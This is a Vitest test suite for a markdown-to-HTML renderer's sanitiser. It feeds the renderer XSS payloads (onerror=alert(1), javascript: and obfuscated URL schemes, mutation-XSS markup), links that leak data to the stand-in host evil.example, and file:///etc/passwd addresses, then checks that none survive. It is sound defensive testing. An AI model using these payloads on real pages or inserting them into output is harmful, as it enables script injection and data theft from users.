import { describe, expect, it } from 'vitest';
import { pieces } from './documents';
import { draw } from './drawing';

const elements = (
  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br ' +
  'button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div ' +
  'dl dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head ' +
  'header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark ' +
  'marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option ' +
  'output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select shadow ' +
  'slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th ' +
  'thead time title tr track tt u ul var video wbr xmp x-custom foreignObject animate set use mtext mglyph malignmark ' +
  'annotation-xml maction semantics'
).split(' ');

const handlers = (
  'onabort onactivate onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle ' +
  'onbegin onblur oncancel oncanplay onchange onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondrop onend ' +
  'onerror onfocus onfocusin onformdata onhashchange oninput onkeydown onload onloadstart onmessage onmouseenter ' +
  'onmouseover onpageshow onpaste onpointerdown onpointerrawupdate onpopstate onrepeat onreset onresize onscroll ' +
  'onscrollend onsearch onselect onsubmit ontoggle ontouchstart ontransitionend onunload onwheel'
).split(' ');

const fetching =
  'src srcset srcdoc data poster background action formaction ping xlink:href manifest profile cite lowsrc dynsrc';

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61vascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'command:workbench.action.terminal.new',
  'vscode://file/etc/passwd',
  'vscode-resource:/etc/passwd',
  'file:///etc/passwd',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'blob:https://x.example/1',
  'ftp://x.example/',
  '//x.example/path',
  '/absolute',
  'relative.md',
  '#fragment',
  '?query',
  '\\\\server\\share',
];

// Taken from no list: each is an idea how markup might change its meaning between two parsers.
const mutations = [
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><td><svg><desc><td><img src=x onerror=alert(1)></desc>',
  '<div><template><img src=x onerror=alert(1)></template></div>',
  '<div><textarea><img src=x onerror=alert(1)></textarea></div>',
  '<p><plaintext><b onclick=alert(1)>',
  '<b <script>alert(1)</script>>x</b>',
  '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
  '<a\nhref="javascript:alert(1)">x</a>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="https://evil.example/?leak"/onload=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x srcset="https://evil.example/a 2x" alt=text>',
  '<div style="background:url(https://evil.example/)">x</div>',
  '<p style=behavior:url(x) class=evil id=root name=body>x</p>',
  '<a href=https://x.example target=_top ping=https://evil.example onclick=alert(1) style=x id=y>x</a>',
  '<table background="https://evil.example/"><tr><td background=//evil.example>x</table>',
  '<ul type="disc" style="list-style:url(https://evil.example)"><li>x</ul>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<? php <img src=x onerror=alert(1)> ?>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div>\n<scr<script>ipt>alert(1)</scr</script>ipt>\n</div>',
  '`<img src=x onerror=alert(1)>` <b>`</b><img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://x.example "<img src=x onerror=alert(1)>")',
  '![<img src=x onerror=alert(1)>](x)',
  '![alt](https://evil.example/pixel.png "title")',
  '[![alt](https://evil.example/pixel.png)](https://x.example)',
  '<b>![a"onerror=alert(1) b="](https://evil.example/pixel.png)</b>',
  '<b>[x](javascript:alert(1))</b> <b>[x](https://x.example" onclick="alert(1))</b>',
  '```"><img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
  '```html\n<img src=x onerror=alert(1)>&lt;script>\n```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <b onclick=alert(1)>x</b> | ![p](https://evil.example/p) |',
  '> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>\n  <a href="javascript:alert(1)">x</a>',
  '[x]\n\n[x]: javascript:alert(1)',
  '[x]\n\n[x]: <data:text/html,x> "t"',
  '<javascript:alert(1)> <command:x> <data:text/html,x>',
];

const allowedTags = new Set(
  (
    'a abbr b blockquote br cite code dd del dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s samp ' +
    'small span strong sub summary sup table tbody td tfoot th thead tr u ul var'
  ).split(' '),
);
const allowedAttributes: Readonly<Record<string, RegExp>> = {
  class: /^(?:md-[a-z]+(?: md-done)?|language-[\w+#.-]+)$/,
  'data-loose': /^$/,
  'data-task': /^$/,
  // What a file of the workspace is named by; the host looks whether it is one.
  'data-target': /^(?!\/\/|[a-z]+:)[\w@./~:#-]+$/i,
  start: /^\d+$/,
  colspan: /^\d*$/,
  rowspan: /^\d*$/,
};
const linkAttributes: Readonly<Record<string, RegExp>> = {
  class: /^md-image$/,
  href: /^(?:https?|mailto):/,
  'data-href': /^(?:https?|mailto):/,
  title: /^(?:https?|mailto):/,
  rel: /^noreferrer noopener$/,
};

/** What in `root` could fetch, run, submit, restyle or take a name: anything that is not on the lists above. */
function dangers(root: HTMLElement): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const isHtml = element.namespaceURI === 'http://www.w3.org/1999/xhtml';
    if (!isHtml || !allowedTags.has(element.localName)) return [`<${element.localName}>`];
    const known = element.localName === 'a' ? linkAttributes : allowedAttributes;
    return [...element.attributes]
      .filter(({ name, value }) => known[name]?.test(value) !== true)
      .map(({ name, value }) => `${element.localName} ${name}=${value}`);
  });
}

/** Draws a text whole, in so many steps or letter by letter if it is shorter, and inside other blocks. */
function everyWay(text: string, steps = 80): HTMLElement[] {
  const nested = text.replaceAll('\n', '\n  ');
  return [
    draw([text]),
    draw(pieces(text, [Math.ceil(text.length / steps)])),
    draw([`before ${text} after`]),
    draw([`- ${nested}\n\n  ${nested}`]),
    draw([`> ${text.replaceAll('\n', '\n> ')}`]),
    draw([`<div>\n${text}\n</div>`]),
    draw([`| ${text.replaceAll('\n', ' ')} |\n|---|\n| ${text.replaceAll('\n', ' ')} |`]),
  ];
}

function expectSafe(text: string, steps?: number): void {
  for (const root of everyWay(text, steps)) expect(dangers(root), text).toEqual([]);
}

describe('what a model writes', () => {
  it('never becomes an element that is not on the list', () => {
    for (const name of elements) {
      const attributes = 'src=https://evil.example href=javascript:alert(1) onload=alert(1) onerror=alert(1)';
      expectSafe(`<${name}>inside</${name}> <${name} ${attributes}>`, 4);
    }
  }, 120_000);

  it.each(['b', 'img', 'a', 'div', 'svg', 'table', 'details', 'input', 'body'])(
    'never gets an event handler on <%s>',
    (name) => {
      const attributes = handlers.map((handler) => `${handler}="alert(1)"`).join(' ');
      expectSafe(`<${name} ${attributes}>x</${name}>`, 8);
      expectSafe(`<${name}/${handlers.map((handler) => `${handler}=alert(1)`).join('/')}>`, 8);
    },
  );

  it.each(['img', 'a', 'b', 'div', 'table', 'td', 'q', 'del', 'video', 'object', 'form'])(
    'never gets an attribute on <%s> that fetches or submits',
    (name) => {
      for (const attribute of fetching.split(' ')) {
        expectSafe(
          `<${name} ${attribute}="https://evil.example/?secret" style="color:red" id=x name=y>x</${name}>`,
          8,
        );
      }
    },
  );

  it.each(addresses)('never becomes a link to %j', (address) => {
    for (const text of [
      `[x](${address})`,
      `[x](<${address}>)`,
      `<${address}>`,
      `<a href="${address}">x</a>`,
      `<b>[x](${address})</b>`,
      `![x](${address})`,
      `[x][y]\n\n[y]: <${address}>`,
    ]) {
      for (const root of everyWay(text)) {
        expect(dangers(root), text).toEqual([]);
        // The only links are those that a bare address within the text makes.
        const targets = [...root.querySelectorAll('a')].map((link) => link.href);
        expect(
          targets.filter((target) => !/^https?:\/\/x\.example/.test(target)),
          text,
        ).toEqual([]);
      }
    }
  });

  it.each(mutations)('stays harmless: %j', (text) => expectSafe(text));

  it('keeps links that lead out', () => {
    const root = draw([
      '[a](https://a.example/x?y=1&amp;z=2) <mailto:b@c.example> http://d.example <a href="https://e.example">e</a>',
    ]);
    expect(
      [...root.querySelectorAll('a')].map(({ href, dataset, title }) => [href, dataset['href'], title]),
    ).toEqual(
      ['https://a.example/x?y=1&z=2', 'mailto:b@c.example', 'http://d.example/', 'https://e.example/'].map(
        (target) => [target, target, target],
      ),
    );
  });

  it('shows what stands for an image and never an image', () => {
    const root = draw([
      '![a cat](https://i.example/cat.png) ![](relative.png) <img src=https://i.example/x.png alt="raw &amp; ready"> [![in a link](i)](https://l.example)',
    ]);
    expect(root.querySelectorAll('img, picture, source, [src]').length).toBe(0);
    const shown = [...root.querySelectorAll('.md-image')].map((element) => [
      element.localName,
      element.textContent,
    ]);
    expect(shown).toEqual([
      ['span', 'a cat'],
      ['span', 'Image'],
      ['span', 'raw & ready'],
      ['span', 'in a link'],
    ]);
    const alone = draw(['![a cat](https://i.example/cat.png)']).querySelector<HTMLAnchorElement>('.md-image');
    expect([alone?.localName, alone?.href]).toEqual(['a', 'https://i.example/cat.png']);
  });

  it('is seen where it is no HTML that we know', () => {
    const root = draw([
      'Use Vec<String> and <think>this</think> or <script>alert(1)</script> <x-y z=1>\n\n<iframe src=x>\n',
    ]);
    expect(root.textContent).toBe(
      'Use Vec<String> and <think>this</think> or <script>alert(1)</script> <x-y z=1><iframe src=x>',
    );
    expect(root.querySelectorAll('p').length).toBe(2);
  });

  it('keeps the harmless HTML that models write', () => {
    const root = draw([
      'H<sub>2</sub>O <kbd>Ctrl</kbd> <b>bold *and em*</b><br>next\n\n<details>\n<summary>More</summary>\n\ntext\n\n</details>\n',
    ]);
    expect(root.querySelectorAll('sub, kbd, b > em, br, summary').length).toBe(5);
    expect(root.querySelectorAll('details').length).toBe(0);
    expect(root.textContent).toContain('More');
  });

  it('keeps raw HTML within its own block', () => {
    const root = draw(['<div><b>open\n\nnot bold\n']);
    expect(root.querySelector('b p, .md-html p')).toBeNull();
  });
});
